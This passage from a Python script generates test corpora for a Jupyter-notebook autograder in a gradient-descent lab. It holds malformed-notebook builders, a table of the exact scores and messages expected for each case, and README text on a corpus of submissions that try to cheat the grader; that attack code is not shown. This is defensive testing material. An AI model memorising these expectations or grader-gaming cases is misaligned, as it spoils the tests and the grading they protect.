    source = source_of(nb["cells"][index]).replace("def gradient_descent(", "def my_descent(")
    nb["cells"][index]["source"] = lines(source + "\n\ngradient_descent = my_descent\n")
    return dumps(nb).encode()


def m_computed_constant():
    nb = solution()
    replace_in_cell(nb, "df", """
        def df(x):
            return TWO * x
        """)
    index = cell_defining(nb, "df")
    nb["cells"][index]["source"] = lines("TWO = np.float64(2.0)\n\n\n" + source_of(nb["cells"][index]))
    return dumps(nb).encode()


def m_crlf_tabs():
    nb = solution()
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            text = source_of(cell)
            text = re.sub(r"^((?:    )+)", lambda m: "\t" * (len(m.group(1)) // 4), text, flags=re.M)
            cell["source"] = lines(text.replace("\n", "\r\n"))
    return dumps(nb).encode()


def m_nul_cell():
    nb = solution()
    nb["cells"].insert(2, code_cell("nul", "x = 1\0\n"))
    return dumps(nb).encode()


def m_json_list():
    return json.dumps([{"cell_type": "code", "source": "def f(x):\n    return x**2\n"}]).encode()


def m_plot_in_function():
    nb = solution()
    replace_in_cell(nb, "f", """
        def f(x):
            fig, ax = plt.subplots()  # a quick look at the parabola, left in
            ax.plot(np.ravel(x), np.ravel(x) ** 2, "o")
            plt.close(fig)
            return x**2
        """)
    return dumps(nb).encode()


def m_inside_if():
    nb = solution()
    index = cell_defining(nb, "chain_rule_derivative")
    source = source_of(nb["cells"][index])
    nb["cells"][index]["source"] = lines("if True:  # my editor folded this\n" + textwrap.indent(source, "    "))
    return dumps(nb).encode()


HUGE_MB = 200


def huge_notebook_bytes(megabytes=HUGE_MB):
    """The solution notebook with ~``megabytes`` MB of image outputs in one plotting cell (built at test time)."""
    nb = solution()
    blob = "iVBORw0KGgo" + "A" * (2**20 - 11)  # 1 MiB of base64 text, like a big embedded PNG
    plot = next(c for c in nb["cells"] if c["cell_type"] == "code" and "plt.show()" in source_of(c))
    plot["outputs"] = [{"data": {"image/png": blob, "text/plain": ["<Figure>"]}, "metadata": {},
                        "output_type": "display_data"} for _ in range(megabytes)]
    return dumps(nb).encode()


MALFORMED = [
    Malformed(1, "not-json", "plain text instead of a notebook", 0, False, "not a readable notebook",
              "nothing to grade; the reason must say the file is not a notebook", m_not_json),
    Malformed(2, "truncated-json", "the solution notebook cut off half way (an interrupted upload)", 0, False,
              "was it cut off", "the JSON cannot be read; the reason must suggest a cut-off file", m_truncated),
    Malformed(3, "empty", "an empty file (0 bytes)", 0, False, "the file is empty", "nothing to grade",
              m_empty),
    Malformed(4, "gzip-binary", "the solution notebook gzip-compressed (binary, not text)", 0, False,
              "not even text", "a grader cannot open it as a notebook either; the reason must say it is not text",
              m_gzip),
    Malformed(5, "utf8-bom", "the solution notebook with a UTF-8 byte-order mark (Windows editors add one)",
              MAX_SCORE, True, "01_gradient_descent: 29 / 29",
              "the BOM is invisible and the notebook is otherwise the correct solution: a fair grader credits it",
              m_bom),
    Malformed(6, "nbformat3", "a real nbformat 3 notebook (worksheets, `input`) holding the solution code",
              MAX_SCORE, True, "01_gradient_descent: 29 / 29", "old format, correct code: full marks", m_v3),
    Malformed(7, "no-cells", "nbformat 4 with the `cells` key missing", 0, False, "no list of cells",
              "there is no code at all to grade", m_no_cells),
    Malformed(8, "no-metadata", "nbformat 4.0 without notebook metadata, cell ids or cell metadata, sources as "
              "single strings", MAX_SCORE, True, "01_gradient_descent: 29 / 29",
              "every function is there; metadata is not needed to grade", m_no_metadata),
    Malformed(9, "duplicate-ids", "every cell has the same id", MAX_SCORE, True, "01_gradient_descent: 29 / 29",
              "ids do not matter for grading", m_duplicate_ids),
    Malformed(10, "exercise-deleted", "the gradient_descent exercise cell deleted", MAX_SCORE - 8, True,
              "`gradient_descent` is not defined in your notebook",
              "the 8 gradient_descent points are lost, every other exercise is graded", m_exercise_deleted),
    Malformed(11, "function-renamed", "gradient_descent renamed to grad_descent", MAX_SCORE - 8, True,
              "your notebook defines `grad_descent`",
              "the graded name is missing: 8 points lost, with a hint naming the renamed function", m_renamed),
    Malformed(12, "function-moved", "gradient_descent cut from its exercise cell and pasted into a new cell near the "
              "top", MAX_SCORE, True, "01_gradient_descent: 29 / 29",
              "where the function was written does not matter", m_moved),
    Malformed(13, "function-split", "gradient_descent split across two cells inside its loop (the first half ends "
              "with a `for` line, the second half is the loop body)",
              MAX_SCORE - 8, True, "syntax error",
              "neither half runs in Jupyter either: 8 points lost, the syntax errors are reported", m_split),
    Malformed(14, "helpers-new-cell", "gradient_descent calls two helpers defined in a new cell below it",
              MAX_SCORE, True, "01_gradient_descent: 29 / 29", "helpers anywhere in the notebook are used",
              m_helpers),
    Malformed(15, "markdown-cell", "the chain-rule exercise cell turned into a markdown cell (code as text)",
              MAX_SCORE - 2, True, "`chain_rule_derivative` is not defined in your notebook",
              "markdown does not run in Jupyter either: the 2 chain-rule points are lost; no hint may point at "
              "another graded function", m_markdown, forbid=("did you rename it",)),
    Malformed(16, "huge-outputs", f"the solution notebook with ~{HUGE_MB} MB of image outputs", MAX_SCORE, True, "01_gradient_descent: 29 / 29",
              "outputs are not graded; a big file under the size limit grades normally",
              huge_notebook_bytes, at_test_time=True),
    Malformed(17, "source-not-text", "one self-check cell's `source` is the number 42", MAX_SCORE, True,
              "01_gradient_descent: 29 / 29",
              "one unreadable non-exercise cell must not cost the whole notebook", m_source_number),
    Malformed(18, "junk-cells", "non-cell entries (a string, null, a number, cells without a type or source) in "
              "the cell list", MAX_SCORE, True, "01_gradient_descent: 29 / 29",
              "junk entries are skipped; the real cells are graded", m_junk_cells),
    Malformed(19, "magics-and-syntax-error", "IPython magics, shell and help lines inside the exercise cell, and a "
              "new cell with a syntax error", MAX_SCORE, True, "syntax error",
              "magics run in Jupyter; a broken unrelated cell is reported, not charged", m_magics),
    Malformed(20, "lambda-function", "f written as `f = lambda x: x**2` instead of a def", MAX_SCORE, True,
              "01_gradient_descent: 29 / 29", "a lambda is a function; Jupyter runs it; a fair grader credits it",
              m_lambda),
    Malformed(21, "alias-assignment", "gradient_descent written as my_descent, then `gradient_descent = my_descent`",
              MAX_SCORE, True, "01_gradient_descent: 29 / 29",
              "the notebook defines gradient_descent when run; a fair grader credits it", m_alias),
    Malformed(22, "computed-constant", "df uses a module constant `TWO = np.float64(2.0)` (not a plain literal)",
              MAX_SCORE, True, "01_gradient_descent: 29 / 29",
              "the notebook runs and df is right; a fair grader credits it", m_computed_constant),
    Malformed(23, "crlf-tabs", "Windows line endings and tab indentation in every code cell", MAX_SCORE, True,
              "01_gradient_descent: 29 / 29", "valid Python either way", m_crlf_tabs),
    Malformed(24, "nul-byte-cell", "an extra code cell containing a NUL byte", MAX_SCORE, True, "code cell 3",
              "that cell cannot run; the rest is graded and the cell is named in a note", m_nul_cell),
    Malformed(25, "json-list", "valid JSON that is a list, not a notebook", 0, False, "not a Jupyter notebook",
              "nothing that looks like a notebook", m_json_list),
    Malformed(26, "def-inside-if", "chain_rule_derivative defined inside an `if True:` block", MAX_SCORE, True,
              "01_gradient_descent: 29 / 29", "the function exists when the notebook runs; a fair grader credits "
              "it", m_inside_if),
    Malformed(27, "plot-in-function", "f draws its values with matplotlib (plt from the notebook's imports) and "
              "closes the figure before returning", MAX_SCORE, True, "01_gradient_descent: 29 / 29",
              "plotting inside a correct function runs in Jupyter; the answer is right", m_plot_in_function),
]

# --------------------------------------------------------------------------------------------------- writing


def readme():
    rows = ["# Grader corpora (Lab 1, `01_gradient_descent`)", "",
            "Made by `python tests/corpus/make_corpus.py` (deterministic; the tables in that file are also the "
            "expectations) and graded by `tests/test_corpus.py`, each corpus in ONE batch with the real CLI "
            "(`-j 2 --test-timeout 2 --submission-timeout 10`).", "",
            "* Every attack is the student stub plus attack code (its first code cell says what it tries) and must "
            "score no more than the stub (0 / 29), stay gradable, and have every test say why it failed. The batch "
            "also holds `honest-full` (the solution notebook, 29) and `honest-partial` "
            "(`examples/submissions/bob`, 23), copied at test time, which must be graded exactly as in a batch of "
            "their own; nothing may be left behind (files, processes, SysV IPC objects) and the batch must finish. "
            "As root the batch sits in a world-readable folder outside /tmp; attacks marked *root only* need the "
            "root protections and are left out otherwise.",
            "* Every malformed file must get the exact score and message a fair human grader would give.",
            "* Holes found and not fixed yet are listed in `KNOWN_HOLES` in `tests/test_corpus.py` (expected failures, xfail; XPASS means fixed).",
            "", "## attacks/", "",
            "| file | tries to | expected |", "|---|---|---|"]
    for spec in ATTACKS:
        root = " (root only)" if spec.needs_root else ""
        says = "; ".join("a test says " + " or ".join(f"“{a}”" for a in ((p,) if isinstance(p, str) else p))
                         for p in spec.phrases)
        rows.append(f"| `{spec.filename}` | {spec.tries}{root} | 0 points, gradable{'; ' + says if says else ''} |")
    rows += ["", "## malformed/", "", "| file | what | expected | why |", "|---|---|---|---|"]
    for spec in MALFORMED:
        where = " (built at test time, not committed)" if spec.at_test_time else ""
        outcome = (f"{spec.score:g} / {MAX_SCORE}, " + ("gradable" if spec.gradable else "`gradable: false`")
                   + f", says “{spec.phrase}”")
        rows.append(f"| `{spec.filename}`{where} | {spec.what} | {outcome} | {spec.why} |")
    return "\n".join(rows) + "\n"


def generate(attack_dir=ATTACK_DIR, malformed_dir=MALFORMED_DIR, readme_path=README):
    """Write both corpora and the README; return the paths written."""
    written = []
    for folder in (attack_dir, malformed_dir):
        folder.mkdir(parents=True, exist_ok=True)
        for old in folder.glob("*.ipynb"):
            old.unlink()
    for spec in ATTACKS:
        path = attack_dir / spec.filename
        path.write_text(build_attack(spec), encoding="utf-8")
        written.append(path)
    for spec in MALFORMED:
        if spec.at_test_time:
            continue
        path = malformed_dir / spec.filename
        path.write_bytes(spec.make())
        written.append(path)
    readme_path.write_text(readme(), encoding="utf-8")
    written.append(readme_path)
    return written


if __name__ == "__main__":
    paths = generate()
    print(f"wrote {len(paths)} files: {len(ATTACKS)} attacks, "
          f"{sum(not m.at_test_time for m in MALFORMED)} malformed (+{sum(m.at_test_time for m in MALFORMED)} built "
          "at test time), README.md")
